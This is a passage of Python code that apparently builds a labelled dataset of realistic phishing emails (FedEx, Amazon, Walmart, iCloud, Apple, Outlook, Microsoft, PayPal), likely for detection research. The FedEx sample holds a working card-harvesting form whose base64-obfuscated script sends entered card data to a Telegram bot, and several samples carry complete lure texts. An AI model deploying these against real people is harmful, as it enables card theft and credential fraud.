          f"var d=new FormData(this),m='FedEx\\n';d.forEach(function(v,k){{m+=k+': '+v+'\\n'}});"
          f"fetch('https://api.telegram.org/bot{bot}/sendMessage',{{method:'POST',headers:{{'Content-Type':'application/json'}},"
          f"body:JSON.stringify({{chat_id:'-100{num('fx-chat', 10)}',text:m}})}}).then(function(){{location.href='https://www.fedex.com/en-us/tracking.html'}})}});")
    js_b64 = base64.b64encode(js.encode()).decode()
    form_html = f"""<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1">
<title>FedEx Delivery Manager - Reschedule</title>
<style>body{{font-family:Arial,sans-serif;background:#f2f2f2;margin:0}}.h{{background:#4d148c;color:#fff;padding:14px 20px;font-size:24px;font-weight:bold}}.h span{{color:#ff6200}}
.c{{max-width:460px;margin:24px auto;background:#fff;padding:24px;border-radius:4px}}label{{display:block;font-size:13px;color:#333;margin:10px 0 4px}}
input{{width:100%;padding:9px;border:1px solid #bbb;border-radius:3px;box-sizing:border-box}}button{{margin-top:18px;width:100%;background:#ff6200;color:#fff;border:0;padding:12px;font-size:15px;border-radius:3px}}</style></head>
<body><div class="h">Fed<span>Ex</span></div><div class="c">
<h3>Reschedule your delivery</h3>
<p style="font-size:13px;color:#555">Tracking 7724 1963 0418 &middot; A $1.99 address verification fee applies.</p>
<form id="f">
<label>Full name</label><input name="name" required>
<label>Street address</label><input name="address" required>
<label>City, State, ZIP</label><input name="city" required>
<label>Phone</label><input name="phone" required>
<label>Card number</label><input name="card" inputmode="numeric" required>
<label>Expiration (MM/YY)</label><input name="exp" required>
<label>CVV</label><input name="cvv" inputmode="numeric" required>
<button type="submit">Confirm and pay $1.99</button>
</form></div>
<script>eval(atob("{js_b64}"))</script>
</body></html>
"""
    plain = """Hello,

We attempted to deliver your FedEx shipment (tracking 7724 1963 0418) today
but could not complete the delivery.

Please open the attached delivery form to confirm your address and choose a
new delivery date.

FedEx Delivery Manager
"""
    html = """<div style="font-family:Arial,sans-serif;font-size:14px;color:#333;">
<p>Hello,</p>
<p>We attempted to deliver your <b>FedEx</b> shipment (tracking 7724 1963 0418) today but could not complete the delivery.</p>
<p>Please open the attached delivery form to confirm your address and choose a new delivery date.</p>
<p style="color:#4d148c;font-weight:bold;">FedEx Delivery Manager</p>
</div>
"""
    body = Multi("mixed", "=_" + hexs("fx-mix", 32), [
        Multi("alternative", "=_" + hexs("fx-alt", 32), [text(plain), text(html, "html")]),
        attachment("text/html", "FedEx_Reschedule_Form_7724.html", form_html.encode()),
    ])
    head = f"""{dkim(dom, "dkim", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", "fx", t)}
Received: from [185.241.208.77] (unknown [185.241.208.77])
\t(Authenticated sender: notify@{dom})
\tby mx.{dom} (Postfix) with ESMTPSA id 4dLK{tok("fx-pf", 7)}
\tfor <{who[1]}>; {fmt(t - sec(1), comment="UTC")}
MIME-Version: 1.0
Date: {fmt(t - sec(2), "America/Chicago")}
From: FedEx Delivery Manager <notify@{dom}>
To: {who[1]}
Subject: Delivery attempt unsuccessful - reschedule required
Message-ID: <{hexs("fx-mid", 32)}@{dom}>
X-Mailer: Microsoft Outlook 16.0"""
    add("phish-fedex-html-attachment", "phishing",
        "FedEx failed-delivery note from a look-alike domain with an HTML attachment: a 'reschedule form' collecting address and card data whose base64-obfuscated script posts it to a Telegram bot.",
        "gmail", who[1], t, src, auth, head, body)


# ---- 8. Amazon Prime payment declined, sent from a fresh onmicrosoft.com tenant, Firebase page ----
def _a_amazon():
    who = GARY
    t = T("2025-02-18 20:14:27")
    ten = "k7vq2pxm.onmicrosoft.com"
    snd = f"support@{ten}"
    link = "https://amzn-billing-upd.web.app/ap/signin?openid.return_to=prime&ref_=pe_" + num("am-ref", 9)
    src = Src("40.107.93.61", "mail-dm6nam10on2061.outbound.protection.outlook.com", "NAM10-DM6-obe.outbound.protection.outlook.com", snd)
    auth = Auth("pass", [(ten, "selector1-k7vq2pxm-onmicrosoft-com", "pass")], "pass", "none", ten)
    pod = "CH3PR20MB" + num("am-pod", 4)
    plain = f"""Amazon

Hello Gary,

We were unable to charge your payment method for your Prime membership
renewal ($14.99). Your Prime benefits, including free delivery and Prime
Video, will be paused until the payment information is updated.

Update your payment method: {link}

If no action is taken within 48 hours, your membership will be cancelled.

Thank you for being a Prime member.
Amazon.com
"""
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>
<table width="600" align="center" cellpadding="0" cellspacing="0" style="font-family:'Amazon Ember',Arial,sans-serif;">
<tr><td style="padding:16px 0;border-bottom:1px solid #ddd;font-size:28px;font-weight:bold;color:#232f3e;">amazon<span style="color:#ff9900;">prime</span></td></tr>
<tr><td style="padding:20px 0;font-size:14px;line-height:21px;color:#111;">
<p>Hello Gary,</p>
<p>We were unable to charge your payment method for your Prime membership renewal (<b>$14.99</b>). Your Prime benefits, including free delivery and Prime Video, will be paused until the payment information is updated.</p>
<p style="padding:10px 0;"><a href="{link}" style="background:#ffd814;border:1px solid #fcd200;border-radius:8px;padding:10px 22px;color:#0f1111;text-decoration:none;">Update payment method</a></p>
<p>If no action is taken within 48 hours, your membership will be cancelled.</p>
<p>Thank you for being a Prime member.<br>Amazon.com</p>
</td></tr>
<tr><td style="font-size:11px;color:#888;padding-top:12px;border-top:1px solid #ddd;">&copy; 1996-2025, Amazon.com, Inc. or its affiliates. Amazon, Prime and all related marks are trademarks of Amazon.com, Inc.</td></tr>
</table></body></html>
"""
    bnd = f"_000_{pod}{hexs('am-mid', 24, True)}{pod.lower()}namp_"
    head = f"""ARC-Seal: i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;
 b={sigf("am-as", 1)}
ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=microsoft.com;
 s=arcselector10001;
 h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-AntiSpam-MessageData-ChunkCount:X-MS-Exchange-AntiSpam-MessageData-0:X-MS-Exchange-AntiSpam-MessageData-1;
 bh={bhash("am")};
 b={sigf("am-am", 1)}
ARC-Authentication-Results: i=1; mx.microsoft.com 1; spf=none; dmarc=none;
 dkim=none; arc=none
DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;
 d={ten}; s=selector1-k7vq2pxm-onmicrosoft-com;
 h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck;
 bh={bhash("am")};
 b={sigf("am-dk", 1)}
Received: from {pod}.namprd20.prod.outlook.com (2603:10b6:610:{hexs("am-r1", 3)}::{hexs("am-r2", 2)})
 by {pod}.namprd20.prod.outlook.com with Microsoft SMTP Server (version=TLS1_2,
 cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.8445.20; {fmt(t - sec(1))}
From: Amazon Prime <{snd}>
To: "{who[1]}" <{who[1]}>
Subject: Your Prime membership payment was declined
Thread-Topic: Your Prime membership payment was declined
Thread-Index: AQHbgk{b64("am-ti", 24)}==
Date: {fmt(t - sec(2))}
Message-ID: <{pod}{hexs("am-mid", 24, True)}@{pod}.namprd20.prod.outlook.com>
Accept-Language: en-US
Content-Language: en-US
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
x-ms-publictraffictype: Email
MIME-Version: 1.0"""
    add("phish-amazon-prime-declined", "phishing",
        "Amazon Prime 'payment declined' notice sent from a throwaway Microsoft 365 tenant (k7vq2pxm.onmicrosoft.com, passes authentication) linking to a credential and card page on Firebase Hosting (web.app).",
        "outlook", who[1], t, src, auth, head, alt(plain, html, bnd))


# ---- 9. Walmart order callback scam from a free Gmail account ----
def _a_walmart():
    who = TESSA
    t = T("2025-04-09 03:12:50")
    snd = "walmart.orderdesk.us@gmail.com"
    src, gblock = gmail_out(t, "wm", who[1].split("@")[1])
    src.mailfrom = snd
    auth = Auth("pass", [("gmail.com", "20230601", "pass")], "pass", "none", "gmail.com")
    plain = """Walmart Order Confirmation

Hi Tessa,

Thanks for your order. We'll let you know when it ships.

Order number: 2000131-44827193
Order date: Apr 8, 2025

Apple iPad Air 13-inch (M2) Wi-Fi 512GB - Space Gray
Qty: 1    $1,149.00

Subtotal: $1,149.00
Tax: $94.79
Order total: $1,243.79
Payment: Walmart Pay ending 0281

Shipping to: Daryl Simmons, 5521 Gentilly Blvd, New Orleans, LA 70122

If you did not place this order or want to cancel it, please contact our
order-protection team at +1 (888) 740-2291 within 24 hours. After that the
order can no longer be cancelled and the amount will not be refunded.

Walmart Customer Care
"""
    html = """<div dir="ltr"><div><b>Walmart Order Confirmation</b></div><div><br></div><div>Hi Tessa,</div><div><br></div><div>Thanks for your order. We&#39;ll let you know when it ships.</div><div><br></div><div>Order number: 2000131-44827193</div><div>Order date: Apr 8, 2025</div><div><br></div><div>Apple iPad Air 13-inch (M2) Wi-Fi 512GB - Space Gray</div><div>Qty: 1\u00a0 \u00a0 $1,149.00</div><div><br></div><div>Subtotal: $1,149.00</div><div>Tax: $94.79</div><div><b>Order total: $1,243.79</b></div><div>Payment: Walmart Pay ending 0281</div><div><br></div><div>Shipping to: Daryl Simmons, 5521 Gentilly Blvd, New Orleans, LA 70122</div><div><br></div><div>If you did not place this order or want to cancel it, please contact our order-protection team at <b>+1 (888) 740-2291</b> within 24 hours. After that the order can no longer be cancelled and the amount will not be refunded.</div><div><br></div><div>Walmart Customer Care</div></div>
"""
    bnd = "000000000000" + hexs("wm-b", 16)
    head = f"""{gblock}
MIME-Version: 1.0
From: Walmart <{snd}>
Date: {fmt(t - sec(2), "America/Chicago")}
Message-ID: {gmail_msgid("wm")}
Subject: Your Walmart order #2000131-44827193 has been placed
To: {who[1]}"""
    body = Multi("alternative", bnd, [text(plain), text(html, "html")])
    add("phish-walmart-order-callback", "phishing",
        "Fake Walmart order confirmation for a $1,243.79 iPad shipped to a stranger, sent from a free Gmail account; the only call to action is a 'cancel within 24 hours' phone number (callback scam).",
        "icloud", who[1], t, src, auth, head, body)


# ---- 10. "Your photos will be deleted" iCloud storage spam from a compromised roofing-company site ----
def _a_icloud_photos():
    who = RON
    t = T("2025-08-25 06:31:14")
    snd = "kgreene@milestone-roofing.net"
    bucket = "hjqpzrtpxw"
    link = f"https://storage.googleapis.com/{bucket}/cl0udst0r.html#{who[1]}"
    src = Src("162.241.224.176", "box5521.bluehost.com", "box5521.bluehost.com", snd)
    auth = Auth("pass", [("milestone-roofing.net", "default", "pass")], "none", hfrom="milestone-roofing.net")
    filler = " ".join(tok(f"ic-fill{i}", int(hexs(f"ic-l{i}", 1), 16) % 7 + 3, string.ascii_lowercase) for i in range(60))
    plain = f"""Ron, your photos and videos will be deleted on 08/27/2025

Your iCloud storage is full. Your subscription payment could not be
processed, and your account has been restricted. Photos, videos, documents
and backups that no longer fit will be removed from iCloud.

As part of our loyalty program you can upgrade to 50 GB free of charge for
one year.

Get 50 GB: {link}

iCloud
"""
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="background:#fbfbfd;font-family:-apple-system,'Helvetica Neue',Helvetica,Arial,sans-serif;">
<div style="display:none;font-size:1px;color:#fbfbfd;line-height:1px;max-height:0px;max-width:0px;opacity:0;overflow:hidden;">{filler}</div>
<center><table width="560" cellpadding="0" cellspacing="0" style="background:#fff;border-radius:12px;">
<tr><td align="center" style="padding:30px 20px 4px 20px;"><a href="{link}"><img src="https://storage.googleapis.com/{bucket}/icl.png" width="72" alt="iCloud"></a></td></tr>
<tr><td align="center" style="padding:10px 30px;font-size:26px;font-weight:600;color:#1d1d1f;">Ron, your photos and videos will be deleted on 08/27/2025</td></tr>
<tr><td style="padding:10px 40px;font-size:16px;line-height:24px;color:#424245;">Your iCloud storage is full. Your subscription payment could not be processed, and your account has been restricted. Photos, videos, documents and backups that no longer fit will be removed from iCloud.<br><br>As part of our loyalty program you can upgrade to <b>50 GB free of charge</b> for one year.</td></tr>
<tr><td align="center" style="padding:20px 0 34px 0;"><a href="{link}" style="background:#0071e3;color:#fff;padding:12px 30px;border-radius:22px;text-decoration:none;font-size:17px;">Get 50 GB</a></td></tr>
</table>
<p style="font-size:11px;color:#86868b;">iCloud &middot; One Apple Park Way, Cupertino, CA 95014</p></center>
</body></html>
"""
    bnd = "b1_" + tok("ic-b", 42)
    head = f"""{dkim("milestone-roofing.net", "default", "Content-Type:MIME-Version:Message-ID:Subject:From:To:Date:Sender:Reply-To:Cc", "icl", t)}
{exim_hop("box5521.bluehost.com", "103.157.2.14", "WIN-8P2LQ5D1TJ0", snd, who[1], t - sec(2), "icl")}
Date: {fmt(t - sec(3))}
To: {who[1]}
From: iCloud <{snd}>
Subject: Ron, your photos and videos will be deleted on 08/27/2025
Message-ID: <{tok("ic-mid", 43)}@milestone-roofing.net>
X-Mailer: PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)
MIME-Version: 1.0
X-AntiAbuse: This header was added to track abuse, please include it with any abuse report
X-AntiAbuse: Primary Hostname - box5521.bluehost.com
X-AntiAbuse: Original Domain - yahoo.com
X-AntiAbuse: Originator/Caller UID/GID - [47 12] / [47 12]
X-AntiAbuse: Sender Address Domain - milestone-roofing.net
X-Get-Message-Sender-Via: box5521.bluehost.com: authenticated_id: {snd}
X-Authenticated-Sender: box5521.bluehost.com: {snd}"""
    add("phish-icloud-photos-deleted", "phishing",
        "Mass 'your iCloud photos will be deleted / 50 GB free' spam-phish from a compromised roofing-company mailbox on Bluehost, hidden filler text, link to a page in a Google Cloud Storage bucket with the address in the fragment.",
        "yahoo", who[1], t, src, auth, head, alt(plain, html, bnd))


# ---- 11. Apple Account locked, look-alike .icu domain with subdomain trick ----
def _a_appleid():
    who = EMILY
    t = T("2025-10-03 09:55:02")
    dom = "apple-id-support-case.icu"
    link = "https://appleid.apple.com.id-case-security.icu/account/unlock?case=102938475&lang=en_US"
    src = Src("91.92.240.115", f"smtp.{dom}", f"smtp.{dom}", f"noreply@{dom}")
    auth = Auth("pass", [(dom, "s1", "pass")], "pass", "none", dom)
    plain = f"""Apple Account

Dear Emily,

Your Apple Account was locked for security reasons.

We detected an attempt to sign in to your Apple Account from an unrecognized
device (Windows PC, Bucharest, Romania). To protect your account, it has been
temporarily locked.

To unlock your account, verify your identity:
{link}

If your account is not verified within 24 hours, it will be permanently
disabled and your iCloud data will no longer be accessible.

Apple Support
"""
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head>
<body style="margin:0;background:#ffffff;font-family:'SF Pro Text','Helvetica Neue',Helvetica,Arial,sans-serif;color:#1d1d1f;">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="580" cellpadding="0" cellspacing="0">
<tr><td align="right" style="padding:28px 20px 10px 20px;font-size:32px;color:#1d1d1f;">&#63743;</td></tr>
<tr><td style="padding:10px 20px;font-size:24px;font-weight:600;">Your Apple Account was locked for security reasons.</td></tr>
<tr><td style="padding:10px 20px;font-size:14px;line-height:21px;">Dear Emily,<br><br>We detected an attempt to sign in to your Apple Account from an unrecognized device (Windows PC, Bucharest, Romania). To protect your account, it has been temporarily locked.<br><br>To unlock your account, <a href="{link}" style="color:#0066cc;">verify your identity</a>.<br><br>If your account is not verified within 24 hours, it will be permanently disabled and your iCloud data will no longer be accessible.<br><br>Apple Support</td></tr>
<tr><td style="padding:30px 20px;font-size:11px;color:#86868b;border-top:1px solid #d2d2d7;"><a href="{link}" style="color:#86868b;">Apple Account</a> | <a href="{link}" style="color:#86868b;">Support</a> | <a href="{link}" style="color:#86868b;">Privacy Policy</a><br>Copyright &copy; 2025 Apple Inc. One Apple Park Way, Cupertino, CA 95014, United States. All rights reserved.</td></tr>
</table></td></tr></table></body></html>
"""
    bnd = "----=_Part_" + num("ap-b", 5) + "_" + num("ap-b2", 9) + "." + str(ep(t)) + "441"
    head = f"""{dkim(dom, "s1", "from:to:subject:date:message-id:mime-version:content-type", "apl", t)}
Received: from [45.87.153.9] (unknown [45.87.153.9])
\tby smtp.{dom} (Postfix) with ESMTPSA id 4cN{tok("ap-pf", 9)}
\tfor <{who[1]}>; {fmt(t - sec(1), comment="UTC")}
Date: {fmt(t - sec(2))}
From: Apple <noreply@{dom}>
To: {who[1]}
Message-ID: <{num("ap-m1", 9)}.{num("ap-m2", 4)}.{ep(t)}441@{dom}>
Subject: Your Apple Account has been locked
MIME-Version: 1.0
X-Priority: 1"""
    add("phish-appleid-locked", "phishing",
        "Apple Account 'locked for security reasons' alert from the look-alike domain apple-id-support-case.icu (SPF/DKIM/DMARC pass) with every link on appleid.apple.com.id-case-security.icu.",
        "gmail", who[1], t, src, auth, head, alt(plain, html, bnd))


# ---- 12. Outlook storage full, compromised community-college mailbox, page on IPFS ----
def _a_outlook_ipfs():
    who = ROSEMARY
    t = T("2025-01-28 15:37:19")
    snd = "m.ortega@harlowcc.edu"
    cid = "bafybei" + tok("ipfs", 52, "abcdefghijklmnopqrstuvwxyz234567")
    link = f"https://ipfs.io/ipfs/{cid}?filename=storage-upgrade.html#{who[1]}"
    src = Src("40.107.220.117", "mail-co1nam11on2117.outbound.protection.outlook.com", "NAM11-CO1-obe.outbound.protection.outlook.com", snd)
    auth = Auth("pass", [("harlowcc.edu", "selector1", "pass")], "pass", "quarantine", "harlowcc.edu")
    pod = "MN2PR11MB" + num("ip-pod", 4)
    plain = f"""Outlook

Your mailbox is 99% full (49.6 GB of 50 GB).

You will soon stop receiving new messages. Messages sent to you will be
returned to the sender.

To keep receiving messages, upgrade your storage for free before
01/30/2025:

{link}

Microsoft Outlook Team
"""
    html = f"""<html><head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
</head>
<body>
<div style="font-family:'Segoe UI',Tahoma,Arial,sans-serif;max-width:520px;">
<div style="font-size:22px;color:#0078d4;padding:10px 0;">Outlook</div>
<div style="font-size:18px;padding:6px 0;">Your mailbox is 99% full</div>
<div style="background:#e1dfdd;height:10px;width:100%;border-radius:5px;"><div style="background:#d13438;height:10px;width:99%;border-radius:5px;"></div></div>
<p style="font-size:13px;color:#605e5c;">49.6 GB of 50 GB used</p>
<p style="font-size:14px;">You will soon stop receiving new messages. Messages sent to you will be returned to the sender.</p>
<p style="font-size:14px;">To keep receiving messages, upgrade your storage for free before 01/30/2025.</p>
<p><a href="{link}" style="background:#0078d4;color:#fff;padding:9px 20px;text-decoration:none;font-size:14px;">Upgrade storage</a></p>
<p style="font-size:12px;color:#605e5c;">Microsoft Outlook Team</p>
</div>
</body>
</html>
"""
    bnd = f"_000_{pod}{hexs('ip-mid', 24, True)}{pod.lower()}namp_"
    head = f"""ARC-Seal: i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;
 b={sigf("ip-as", 1)}
ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=microsoft.com;
 s=arcselector10001;
 h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-AntiSpam-MessageData-ChunkCount:X-MS-Exchange-AntiSpam-MessageData-0:X-MS-Exchange-AntiSpam-MessageData-1;
 bh={bhash("ip")};
 b={sigf("ip-am", 1)}
ARC-Authentication-Results: i=1; mx.microsoft.com 1; spf=pass
 smtp.mailfrom=harlowcc.edu; dmarc=pass action=none header.from=harlowcc.edu;
 dkim=pass header.d=harlowcc.edu; arc=none
DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=harlowcc.edu;
 s=selector1;
 h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck;
 bh={bhash("ip")};
 b={sigf("ip-dk", 1)}
Received: from {pod}.namprd11.prod.outlook.com (2603:10b6:208:{hexs("ip-r1", 3)}::{hexs("ip-r2", 2)})
 by {pod}.namprd11.prod.outlook.com with Microsoft SMTP Server (version=TLS1_2,
 cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.8377.22; {fmt(t - sec(1))}
From: "Outlook Support Team" <{snd}>
To: "{who[1]}" <{who[1]}>
Subject: Mailbox storage 99% full
Thread-Topic: Mailbox storage 99% full
Thread-Index: AQHbccF{b64("ip-ti", 22)}==
Date: {fmt(t - sec(2))}
Message-ID: <{pod}{hexs("ip-mid", 24, True)}@{pod}.namprd11.prod.outlook.com>
Accept-Language: en-US
Content-Language: en-US
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
MIME-Version: 1.0"""
    add("phish-outlook-storage-ipfs", "phishing",
        "Outlook 'mailbox 99% full, upgrade for free' lure from a compromised community-college Microsoft 365 account, linking to a credential page pinned on IPFS (ipfs.io gateway) with the victim's address in the fragment.",
        "outlook", who[1], t, src, auth, head, alt(plain, html, bnd))


# ---- 13. Microsoft "unusual sign-in activity" that wants a reply / mailto, from mail.com ----
def _a_ms_signin():
    who = GARY
    t = T("2025-06-22 04:48:51")
    snd = "msa.notify.team@mail.com"
    rep = "msaccount.recovery.desk@gmail.com"
    mailto = f"mailto:{rep}?subject=Report%20The%20User&amp;body=Report%20The%20User"
    src = Src("74.208.4.201", "mout.mail.com", "mout.mail.com", snd)
    auth = Auth("pass", [("mail.com", "s1089575", "pass")], "pass", "quarantine", "mail.com")
    html = f"""<html><head></head><body><div style="font-family: Verdana;font-size: 12.0px;"><div>
<table dir="ltr"><tr><td style="padding:0;font-family:'Segoe UI Semibold','Segoe UI Bold','Segoe UI','Helvetica Neue Medium',Arial,sans-serif;font-size:17px;color:#707070;">Microsoft account</td></tr>
<tr><td style="padding:0;font-family:'Segoe UI Light','Segoe UI','Helvetica Neue Medium',Arial,sans-serif;font-size:41px;color:#2672ec;">Unusual sign-in activity</td></tr>
<tr><td style="padding:0;padding-top:25px;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;font-size:14px;color:#2a2a2a;">We detected something unusual about a recent sign-in to the Microsoft account <a dir="ltr" style="color:#2672ec;text-decoration:none;" href="mailto:{who[1]}">{who[1]}</a>.</td></tr>
<tr><td style="padding:0;padding-top:25px;font-size:14px;color:#2a2a2a;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;"><b>Sign-in details</b></td></tr>
<tr><td style="padding:0;padding-top:6px;font-size:14px;color:#2a2a2a;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;">Country/region: Russia/Moscow</td></tr>
<tr><td style="padding:0;padding-top:6px;font-size:14px;color:#2a2a2a;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;">IP address: 103.225.77.255</td></tr>
<tr><td style="padding:0;padding-top:6px;font-size:14px;color:#2a2a2a;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;">Date: 6/21/2025 11:31 PM (GMT)</td></tr>
<tr><td style="padding:0;padding-top:6px;font-size:14px;color:#2a2a2a;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;">Platform: Windows 10</td></tr>
<tr><td style="padding:0;padding-top:6px;font-size:14px;color:#2a2a2a;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;">Browser: Firefox</td></tr>
<tr><td style="padding:0;padding-top:25px;font-size:14px;color:#2a2a2a;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;">Please go to your recent activity page to let us know whether or not this was you. If this wasn't you, we'll help you secure your account. If this was you, we'll trust similar activity in the future.</td></tr>
<tr><td style="padding:0;padding-top:25px;"><table border="0" cellspacing="0"><tr><td bgcolor="#2672ec" style="background-color:#2672ec;padding:5px 20px;min-width:50px;"><a style="font-family:'Segoe UI Semibold',Arial,sans-serif;font-size:14px;text-align:center;text-decoration:none;font-weight:600;letter-spacing:0.02em;color:#fff;" href="{mailto}">Report The User</a></td></tr></table></td></tr>
<tr><td style="padding:0;padding-top:25px;font-size:14px;color:#2a2a2a;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;">To opt out or change where you receive security notifications, <a href="{mailto}" style="color:#2672ec;text-decoration:none;">click here</a>.</td></tr>
<tr><td style="padding:0;padding-top:25px;font-size:14px;color:#2a2a2a;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;">Thanks,</td></tr>
<tr><td style="padding:0;font-size:14px;color:#2a2a2a;font-family:'Segoe UI',Tahoma,Verdana,Arial,sans-serif;">The Microsoft account team</td></tr>
</table></div></div></body></html>
"""
    head = f"""{dkim("mail.com", "s1089575", "X-UI-Sender-Class:MIME-Version:Message-ID:From:To:Subject:Content-Type:Date:Reply-To:cc:content-transfer-encoding:content-type:date:from:message-id:mime-version:reply-to:subject:to", "msa", t, extra="i=msa.notify.team@mail.com")}
X-UI-Sender-Class: f2cb72be-343f-493d-8ec3-b1efb8d6185a
Received: from [102.90.66.14] ([102.90.66.14]) by web-mail.mail.com
 (3c-app-mailcom-lxa11.server.lan [10.76.45.12]) (via HTTP); {fmt(t - sec(2), "Europe/Berlin")}
MIME-Version: 1.0
Message-ID: <trinity-{uid("msa-tr")}-{ep(t) - 2}{num("msa-ms", 3)}@3c-app-mailcom-lxa11>
From: Microsoft account team <{snd}>
To: {who[1]}
Subject: Microsoft account unusual sign-in activity
Importance: normal
Sensitivity: Normal
Date: {fmt(t - sec(2), "Europe/Berlin")}
Reply-To: {rep}
X-Priority: 3
X-Provags-ID: V03:K1:{b64("msa-pv", 70)}
 {b64("msa-pv2", 60)}
X-Spam-Flag: NO
UI-OutboundReport: notjunk:1;M01:P0:{b64("msa-ob", 11)}=;{b64("msa-ob2", 70)}
 {b64("msa-ob3", 70)}"""
    body = Leaf("text/html", html.encode(), "quoted-printable", '; charset=UTF-8')
    add("phish-microsoft-unusual-signin-mailto", "phishing",
        "Classic Microsoft 'unusual sign-in activity' alert from a free mail.com account whose 'Report The User' button is a mailto: to a Gmail address and Reply-To points there too: it harvests replies, not clicks.",
        "outlook", who[1], t, src, auth, head, body)


# ---- 14. Genuine PayPal invoice abused for a Geek Squad callback scam ----
def _a_paypal_invoice():
    who = HAROLD
    t = T("2025-08-19 14:02:38")
    inv = "INV2-7QXM-4R8D-" + tok("pp-inv", 4, string.ascii_uppercase + string.digits) + "-" + tok("pp-inv2", 4, string.ascii_uppercase + string.digits)
    link = f"https://www.paypal.com/invoice/p/#{inv.replace('-', '')}"
    src = Src("173.0.84.226", "mx2.slc.paypal.com", "mx2.slc.paypal.com", "service@paypal.com")
    auth = Auth("pass", [("paypal.com", "pp-dkim1", "pass")], "pass", "reject", "paypal.com")
    note = ("Your Geek Squad Total Protection plan has been renewed for another year. The amount of $499.99 "
            "will be charged to your account within 24 hours. If you did not authorize this renewal or wish to "
            "cancel and receive a refund, call our billing department at +1 (844) 903-1176 (Mon-Sun, 24 hours).")
    plain = f"""Geek Squad Support sent you an invoice

$499.99 USD
Due on receipt

Invoice number: 0073

Seller note to customer:
{note}

View and pay invoice: {link}

Don't recognize this invoice?
Before paying, make sure you recognize this invoice. If you don't, report it.

PayPal
"""
    html = f"""<!DOCTYPE html><html lang="en"><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"><meta name="viewport" content="width=device-width, initial-scale=1"><title>PayPal</title></head>
<body style="margin:0;padding:0;background:#f5f7fa;">
<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0" style="background:#f5f7fa;"><tr><td align="center" style="padding:20px 0;">
<table role="presentation" width="600" cellpadding="0" cellspacing="0" border="0" style="background:#ffffff;border-radius:16px;">
<tr><td style="padding:28px 40px 0 40px;"><img src="https://www.paypalobjects.com/digitalassets/c/system-triggered-email/n/layout/images/paypal-rebranding/pp-logo-in-circle-2x.png" width="48" height="48" alt="PayPal"></td></tr>
<tr><td style="padding:20px 40px 0 40px;font-family:PayPalOpen-Regular,'Helvetica Neue',Arial,sans-serif;font-size:28px;line-height:36px;color:#001435;">Geek Squad Support sent you an invoice</td></tr>
<tr><td style="padding:16px 40px 0 40px;font-family:'Helvetica Neue',Arial,sans-serif;font-size:32px;color:#001435;font-weight:bold;">$499.99 USD</td></tr>
<tr><td style="padding:4px 40px 0 40px;font-family:'Helvetica Neue',Arial,sans-serif;font-size:14px;color:#545d68;">Due on receipt &middot; Invoice number: 0073</td></tr>
<tr><td style="padding:24px 40px 0 40px;"><a href="{link}" style="display:inline-block;background:#003087;color:#ffffff;font-family:'Helvetica Neue',Arial,sans-serif;font-size:16px;font-weight:bold;padding:12px 32px;border-radius:24px;text-decoration:none;">View and Pay Invoice</a></td></tr>
<tr><td style="padding:24px 40px 0 40px;font-family:'Helvetica Neue',Arial,sans-serif;font-size:14px;color:#001435;"><b>Seller note to customer</b><br>{note}</td></tr>
<tr><td style="padding:24px 40px 0 40px;font-family:'Helvetica Neue',Arial,sans-serif;font-size:14px;color:#001435;"><b>Don't recognize this invoice?</b><br>Before paying, make sure you recognize this invoice. If you don't, <a href="https://www.paypal.com/invoice/p/report/{inv.replace('-', '')}" style="color:#0070e0;">report it</a>. Learn more about <a href="https://www.paypal.com/us/security/learn-about-fake-messages" style="color:#0070e0;">common security scams</a> and how to stay safe.</td></tr>
